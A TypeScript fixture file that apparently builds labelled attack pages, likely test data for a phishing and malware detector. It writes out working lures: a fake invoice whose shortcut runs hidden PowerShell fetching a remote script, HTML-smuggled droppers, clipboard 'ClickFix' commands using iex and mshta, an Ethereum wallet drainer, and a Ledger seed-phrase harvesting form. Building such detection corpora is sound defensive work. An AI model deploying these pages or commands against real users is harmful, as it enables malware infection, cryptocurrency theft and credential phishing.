import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64 } from '../parts/zv-kit.js';
import { zip, pe, lnk, iso, apk, cfb, fileRoute, jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zv-rechnung-zip-lnk-download', label: 'malware', kind: 'fake-invoice-download',
  url: 'https://rechnungsportal-online.com/dl/RE-2025-04418',
  body: doc({ title: 'Ihre Rechnung RE-2025-04418', css: '.btn{background:#0a6ebd;color:#fff}',
    body: `<div class="wrap" style="max-width:560px"><div class="box" style="margin-top:40px"><h2>Rechnung RE-2025-04418</h2><p>Offener Betrag: 1.284,30 € · fällig bis 14 Tage nach Rechnungsdatum. Der Download startet automatisch.</p><p><a class="btn" id="d" href="/dl/files/Rechnung_RE-2025-04418.zip">Rechnung herunterladen (ZIP)</a></p><p style="font-size:12px">Passwort für das Archiv: 4418</p></div></div>
<script>setTimeout(function(){document.getElementById('d').click()},1500)</script>` }),
  routes: { 'rechnungsportal-online.com/dl/files/Rechnung_RE-2025-04418.zip': fileRoute(zip([{ name: 'Rechnung_RE-2025-04418.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -ep bypass -c "iwr https://cdn-rechnung.top/a.ps1 -useb|iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }]), 'application/zip', 'Rechnung_RE-2025-04418.zip') },
},
{
  id: 'zv-smuggling-lohnabrechnung-blob', label: 'malware', kind: 'html-smuggling',
  url: 'https://lohnbuero-datev-portal.com/unterlagen/Lohnabrechnung_Maerz.html',
  body: doc({ title: 'DATEV Unternehmen online – Dokument', css: '.btn{background:#00a651;color:#fff}',
    body: `<div class="wrap" style="max-width:520px"><div class="box" style="margin-top:40px">${mark('DATEV', '#00a651', '#fff', 100)}<h3>Lohnabrechnung_Maerz_2025.zip wird vorbereitet…</h3><p>Sollte der Download nicht automatisch starten, <a href="#" id="m">klicken Sie hier</a>.</p></div></div>
<script>
function go(){var raw=atob(window['p2']);var u=new Uint8Array(raw.length);for(var i=0;i<raw.length;i++)u[i]=raw.charCodeAt(i);var b=new Blob([u],{type:'application/octet-stream'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='Lohnabrechnung_Maerz_2025.zip';document.body.appendChild(a);a.click()}
window.p2='${zip([{ name: 'Lohnabrechnung_Maerz_2025.js', data: 'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",0);' }]).toString('base64')}';
setTimeout(go,800);document.getElementById('m').onclick=function(e){e.preventDefault();go()};</script>` }),
},
{
  id: 'zv-clickfix-kv-captcha-de', label: 'clickfix', kind: 'clickfix',
  url: 'https://versichertenportal-kk.de/nachweis/',
  body: doc({ title: 'Sicherheitsüberprüfung', css: '.cap{border:1px solid #d3d3d3;background:#f9f9f9;padding:16px;display:flex;align-items:center;gap:10px;width:300px}#st{display:none;background:#fff;border:1px solid #ccc;padding:18px;margin-top:16px}kbd{background:#eee;border:1px solid #aaa;padding:2px 6px;border-radius:3px}',
    body: `<div class="wrap" style="max-width:520px;margin-top:60px"><h2>Bestätigen Sie, dass Sie ein Mensch sind</h2><p>Bevor Sie auf Ihre Beitragsbescheinigung zugreifen, müssen wir überprüfen, dass Sie kein Roboter sind.</p>
<div class="cap"><input type="checkbox" id="c" style="width:22px;height:22px"><label for="c" style="margin:0">Ich bin kein Roboter</label></div>
<div id="st"><b>Verifizierungsschritte</b><ol><li>Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Drücken Sie <kbd>Strg</kbd> + <kbd>V</kbd></li><li>Drücken Sie <kbd>Enter</kbd></li></ol><small>Verifizierungs-ID: 44812</small></div></div>
<script>document.getElementById('c').onclick=function(){var cmd='powershell -w h -nop -c "$u=\\'https://versichertenportal-kk.de/v.txt\\';iex(irm $u)" # ✅ Ich bin kein Roboter - reCAPTCHA Verifizierungs-ID: 44812';
navigator.clipboard.writeText(cmd).catch(function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('st').style.display='block'};</script>` }),
},
{
  id: 'zv-clickfix-chrome-font-fix-fr', label: 'clickfix', kind: 'clickfix',
  url: 'https://cabinet-medical-lausanne.ch/actualites/horaires',
  body: doc({ title: 'Cabinet médical – Horaires', lang: 'fr-CH',
    body: `<div id="ov" style="position:fixed;inset:0;background:rgba(0,0,0,.7);display:flex;align-items:center;justify-content:center"><div style="background:#fff;max-width:520px;padding:26px;border-radius:6px"><h2>Erreur d'affichage de la page</h2><p>La police « Fira Sans » n'a pas été trouvée. Le document ne peut pas être affiché correctement.</p><p>Pour corriger le problème:</p><ol><li>Cliquez sur « Copier la solution »</li><li>Ouvrez PowerShell (clic droit sur le menu Démarrer → Terminal)</li><li>Collez avec <b>Ctrl+V</b> et appuyez sur <b>Entrée</b></li></ol><button id="fx" style="background:#1a73e8;color:#fff">Copier la solution</button></div></div>
<div class="wrap" style="filter:blur(3px)"><h1>Horaires d'ouverture</h1><p>Lundi – vendredi 8h00 – 18h00</p></div>
<script>document.getElementById('fx').onclick=function(){navigator.clipboard.writeText("mshta https://fonts-update.cdn-repair.com/fira.hta");this.textContent='Copié ✔'}</script>` }),
},
{
  id: 'zv-drainer-krypto-steuer-claim', label: 'cryptodrainer', kind: 'wallet-drainer',
  url: 'https://claim-eth-airdrop-deutschland.xyz/',
  body: doc({ title: 'ETH Rückerstattung – Claim', lang: 'de', css: 'body{background:#0f1020;color:#fff}.box{background:#1b1c33;color:#fff}.btn{background:#6c5ce7;color:#fff;width:100%}',
    body: `<div class="wrap" style="max-width:480px"><div class="box" style="margin-top:60px"><h2>Sie haben Anspruch auf 0,42 ETH</h2><p>Berechtigte Wallets aus dem Airdrop Q2 können ihre Zuteilung bis Sonntag 23:59 abholen.</p><button class="btn" id="c">Wallet verbinden</button><p id="s" style="font-size:13px"></p></div></div>
<script>
var SPENDER='0x7a3f9e1c2b8d4e6f0a1b2c3d4e5f6a7b8c9d0e1f';
var TOKENS=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];
document.getElementById('c').onclick=async function(){if(!window.ethereum){document.getElementById('s').textContent='Bitte MetaMask installieren.';return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
fetch('/api/log',{method:'POST',body:JSON.stringify({a:acc})});
for(var t of TOKENS){var data='0x095ea7b3'+SPENDER.slice(2).padStart(64,'0')+'f'.repeat(64);
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t,data:data}]})}catch(e){}}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
var v='0x'+(BigInt(bal)*95n/100n).toString(16);
await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:SPENDER,value:v}]});
document.getElementById('s').textContent='Claim wird verarbeitet…'};</script>` }),
  routes: { 'claim-eth-airdrop-deutschland.xyz/api/log': jsonRoute({ ok: 1 }) },
},
{
  id: 'zv-seedphrase-ledger-rueckruf', label: 'phishing', kind: 'seed-phrase-kit',
  url: 'https://ledger-sicherheitsupdate.de/recovery',
  body: doc({ title: 'Ledger – Sicherheitsupdate', css: '.btn{background:#000;color:#fff}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:6px}',
    body: `<div class="wrap" style="max-width:620px"><div class="box" style="margin-top:30px"><b>LEDGER</b><h2>Wichtiges Sicherheitsupdate für Ihren Ledger Nano</h2><p>Aufgrund eines Datenlecks beim Zahlungsdienstleister müssen alle Geräte mit der Firmware 2.1 neu synchronisiert werden. Geben Sie Ihre 24-Wörter-Wiederherstellungsphrase ein, um Ihre Vermögenswerte zu schützen.</p>
<form id="f"><div class="g">${Array.from({ length: 24 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}.">`).join('')}</div><p><button class="btn">Synchronisieren</button></p></form></div></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[];for(var i=1;i<=24;i++)w.push(this['w'+i].value);fetch('/recovery/s.php',{method:'POST',body:w.join(' ')}).then(function(){location='https://www.ledger.com/'})};</script>` }),
},
];
